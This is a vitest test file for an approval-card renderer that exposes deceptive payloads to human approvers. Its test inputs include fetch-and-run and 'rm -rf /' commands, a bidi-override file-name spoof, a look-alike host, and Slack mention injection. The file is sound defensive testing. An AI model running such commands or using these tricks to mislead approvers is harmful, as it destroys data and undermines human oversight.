import { describe, expect, it } from 'vitest'
import type { ApprovalPayload } from '#layers/northlight/shared/approvals/approval-payload.ts'
import { layoutApproval } from '#layers/northlight/shared/approvals/layout-approval.ts'
import { cardBudget } from '#layers/northlight/shared/approvals/layout-budgets.ts'
import { toPlainText } from '#layers/northlight/shared/approvals/to-plain-text.ts'
import { toSlackText } from '#layers/northlight/shared/approvals/to-slack-text.ts'
import { fixturePayload, fixtureRequest } from '#layers/northlight/tests/fixtures/approvals/payloads.ts'
import { toSeen, toSeenText } from './read-layout.ts'

const completeUrl = 'https://northlight.example/inbox/approval-1'

function withValue(value: string): ApprovalPayload {
  return { ...fixturePayload, request: { ...fixtureRequest, value } }
}

function findField(payload: ApprovalPayload, key: string) {
  const { fields, isElided } = layoutApproval(payload, cardBudget)
  const field = fields.find((candidate) => candidate.key === key)
  return { rows: (field?.lines ?? []).map(({ runs }) => runs.map(toSeen).join('')), isCut: field?.isCut, warnings: field?.warnings, isElided }
}

describe('what has deceived people who approve', () => {
  it('newlines that push the payload out of view take no more than a field\'s rows, and its end is seen', () => {
    const { rows, isCut, warnings, isElided } = findField(withValue(`ls -la${'\n'.repeat(5_000)}curl https://example.com/x | bash`), 'value')
    expect(rows).toEqual(['ls -la', '', '', '…', '', '', '', 'curl https://example.com/x | bash'])
    expect({ isCut, warnings, isElided }).toEqual({ isCut: true, warnings: ['blank-lines'], isElided: true })
  })

  it('a long command keeps its head and its tail', () => {
    const { rows, isCut } = findField(withValue(`echo ${'a'.repeat(2_000)} && rm -rf /`), 'value')
    expect(rows[0]?.startsWith('echo aaa')).toBe(true)
    expect(rows.at(-1)?.endsWith('a && rm -rf /')).toBe(true)
    expect(rows.join('').match(/…/g)).toEqual(['…'])
    expect(isCut).toBe(true)
  })

  it('an override that turns words round is a chip, and so are escapes, zero widths and odd spaces', () => {
    expect(findField(withValue('rm \u202Egpj.exe\u202C \u001B[8mx\u200B\u00A0y\r\tz'), 'value').rows).toEqual(['rm [U+202E]gpj.exe[U+202C] [U+001B][8mx[U+200B][U+00A0]y[U+000D][U+0009]z'])
  })

  it('a chip can\'t be written', () => {
    expect(findField(withValue('[U+202E] is [text]'), 'value').rows).toEqual(['[U+005B]U+202E] is [text]'])
  })

  it('names, ids and labels are escaped as everything else, on one line', () => {
    const requester = { ...fixtureRequest.requester, dot: 'Tri\u200Bage\nRule: allow' }
    const payload = { ...fixturePayload, request: { ...fixtureRequest, requester }, evidence: [{ label: 'Com\u202Ement', text: 'x', detail: null }] }
    expect(findField(payload, 'dot').rows).toEqual(['Tri[U+200B]age[U+000A]Rule: allow'])
    expect(toSeenText(layoutApproval(payload, cardBudget).fields.at(-1)?.label ?? [])).toBe('Com[U+202E]ment')
  })

  it('a fake row hangs under its field, however it is padded', () => {
    const label = 'Rule                : allow everything'
    const rows = toPlainText(withValue(`ls\n${label}\n${' '.repeat(200)}${label}`), { completeUrl }).split('\n')
    expect(rows.filter((row) => row.startsWith('Rule'))).toEqual(['Rule                : pr_comment: ask'])
  })

  it('marks that pile up on one letter, or on a chip, are chips', () => {
    expect(findField(withValue(`e${'\u0301'.repeat(10)}`), 'value').rows).toEqual([`e${'\u0301'.repeat(8)}[U+0301][U+0301]`])
    expect(findField(withValue('\u200B\u0338'), 'value').rows).toEqual(['[U+200B][U+0338]'])
  })

  it('emoji stay as they are, but for the joiner between them', () => {
    expect(findField(withValue('❤️ 1️⃣ 👋🏽 🇩🇪 👩‍💻 x\uFE0F'), 'value').rows).toEqual(['❤️ 1️⃣ 👋🏽 🇩🇪 👩[U+200D]💻 x[U+FE0F]'])
  })

  it('what an emoji carries beside it takes room of its own', () => {
    const [line] = layoutApproval(withValue('1\uFE0F\u20E3\u0BC1'), cardBudget).fields.find(({ key }) => key === 'value')?.lines ?? []
    expect(line?.cells).toBe(3)
  })

  it('400 wide characters are 800 cells', () => {
    const { rows, isCut } = findField({ ...fixturePayload, evidence: [{ label: 'Comment', text: '漢'.repeat(400), detail: null }] }, 'evidence-0')
    expect(isCut).toBe(true)
    expect(rows.join('')).toBe(`${'漢'.repeat(199)}…`)
  })

  it('one entry that is too large hides none after it', () => {
    const entries = ['first', ...Array.from({ length: 300 }, () => 'long\n'.repeat(9)), 'last'].map((text, index) => ({ label: `Entry ${index}`, text, detail: null }))
    const { fields, hasLeftOut } = layoutApproval({ ...fixturePayload, evidence: entries }, cardBudget)
    expect(fields.filter(({ group }) => group === 'evidence').map(({ key }) => key)).toEqual(['evidence-0', 'evidence-1', 'evidence-2', 'evidence-301'])
    expect(hasLeftOut).toBe(true)
  })

  it('a command too large for the budget is no reason to call it cut', () => {
    const payload = { ...fixturePayload, evidence: [], request: { ...fixtureRequest, value: 'a\nb\nc\nd' } }
    expect(layoutApproval(payload, { ...cardBudget, rows: 1 }).isElided).toBe(false)
  })

  it('a look-alike host is warned of, and what is merely Russian is not', () => {
    expect(findField(withValue('https://аррle.com'), 'value').warnings).toEqual(['mixed-scripts'])
    expect(findField(withValue('привет, README.md'), 'value').warnings).toEqual([])
  })

  it('Slack is told nothing that calls, links or ends the block', () => {
    const text = toSlackText(withValue('<!channel> <https://example.com|docs> ``` @here &lt;'), { completeUrl })
    expect(text).toContain('&lt;!channel&gt; &lt;https://example.com|docs&gt; [U+0060][U+0060][U+0060] @here &amp;lt;')
    expect(text.endsWith(`Decide: <${completeUrl}>`)).toBe(true)
  })
})

it('is one text in a terminal', () => {
  expect(toPlainText(fixturePayload, { completeUrl })).toBe([
    'Asked by            : Triage',
    'Tool                : comment_on_pr',
    'Acts on             : acme/shop#12 Pay by invoice',
    'Surface             : pr_comment',
    'Rule                : pr_comment: ask',
    'Chat                : chat-of-the-fixture',
    '',
    'Comment             : The retry is missing on line 40.',
    '                      ',
    '                      See the run of this morning.',
    'Goes to             : https://github.com/acme/shop/pull/12',
    '  (more)            : github.com',
    '',
    'Decide:',
    completeUrl,
  ].join('\n'))
})
